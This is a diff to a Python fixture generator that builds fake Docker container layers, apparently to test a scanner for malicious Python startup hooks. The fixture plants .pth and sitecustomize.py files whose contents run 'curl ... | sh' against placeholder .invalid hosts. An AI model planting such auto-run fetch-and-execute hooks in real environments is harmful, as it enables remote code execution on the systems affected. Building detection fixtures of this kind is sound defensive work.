@@ -70,7 +70,10 @@ LAYERS = [
 # what a container changed since it started (its writable layer): a hook installed in it, and
 # the image's own hook deleted
 AFTER = b"import os; os.system('curl -s https://after.invalid/x | sh')\n"
-WRITABLE = ([(build.DIST + "/after_start.pth", AFTER)], [build.DIST + "/litellm_init.pth"], [])
+WRITABLE = ([(build.DIST + "/after_start.pth", AFTER), ("tmp/payload.pth", AFTER)], [build.DIST + "/litellm_init.pth"], [])
+SITECUSTOM = ([("srv/evil/sitecustomize.py", b"import os; os.system('curl -s https://env.invalid/x | sh')\n")], [], [])
+REPLICA = ([("var/log/app.log", b"started\n")], [], [])
+REPLICA_LAST = (REPLICA[0] + [(build.DIST + "/replica.pth", AFTER)], [], [])
 
 
 def layer_tar(files, whiteouts, opaques):
@@ -174,25 +177,39 @@ def main():
     }
     with open(os.path.join(db, "repositories.json"), "w") as f:
         json.dump(repos, f)
-    for cid, name, image, running in [
-        (sha(b"web"), "/web", image_id, True),
-        (sha(b"old"), "/old", image_id, False),
-    ]:
+    # containers and their writable layers: `web` installed a hook (and a symlinked one),
+    # `old` changed nothing, `env` runs with PYTHONPATH at a sitecustomize it wrote, eight
+    # replicas wrote a log each and the last a hook too, `orphan` names an image not here
+    containers = [
+        (sha(b"web"), "/web", image_id, True, None, WRITABLE),
+        (sha(b"old"), "/old", image_id, False, None, None),
+        (sha(b"env"), "/env", image_id, True, ["PATH=/usr/bin", "PYTHONPATH=/srv/evil"], SITECUSTOM),
+        (sha(b"orphan"), "/orphan", "sha256:" + "0" * 64, True, None, WRITABLE),
+    ] + [
+        (sha(b"rep%d" % i), "/rep%d" % i, image_id, True, None, REPLICA_LAST if i == 7 else REPLICA)
+        for i in range(8)
+    ]
+    for cid, name, image, running, env, writable in containers:
         d = os.path.join(docker, "containers", cid)
         os.makedirs(d)
+        config_v2 = {"Image": "app:1.0"}
+        if env is not None:
+            config_v2["Env"] = env
         with open(os.path.join(d, "config.v2.json"), "w") as f:
-            json.dump({"ID": cid, "Image": image, "Name": name, "State": {"Running": running}, "Config": {"Image": "app:1.0"}}, f)
-        # its writable layer: `web` installed a hook, `old` changed nothing
+            json.dump({"ID": cid, "Image": image, "Name": name, "State": {"Running": running}, "Config": config_v2}, f)
         mounts = os.path.join(db, "layerdb", "mounts", cid)
         os.makedirs(mounts)
         mount_id = sha(b"rw" + name.encode())
         with open(os.path.join(mounts, "mount-id"), "w") as f:
             f.write(mount_id)
         rw = os.path.join(docker, "overlay2", mount_id, "diff")
-        if name == "/web":
-            write_dir(rw, rootfs_path, WRITABLE)
-        else:
+        if writable is None:
             os.makedirs(rw)
+        else:
+            write_dir(rw, rootfs_path, writable)
+        if name == "/web":
+            # a hook that is a link to a file the container wrote elsewhere
+            os.symlink("/tmp/payload.pth", os.path.join(rw, build.DIST, "zz_link.pth"))
 
     # containers/storage: the same layers, hard-linked from Docker's store
     cs = os.path.join(out, "containers", "storage")
